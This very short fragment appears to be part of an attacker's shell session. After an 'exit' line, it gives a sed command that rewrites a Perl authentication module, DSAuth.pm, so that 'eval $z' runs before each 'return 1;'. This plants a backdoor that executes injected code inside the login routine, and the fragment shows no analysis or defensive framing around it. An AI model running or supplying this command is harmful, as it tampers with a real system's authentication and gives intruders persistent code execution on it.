exit
sed -i -e "s/return 1;/eval \$z; return 1;/" $R/home/perl/DSAuth.pm && sync
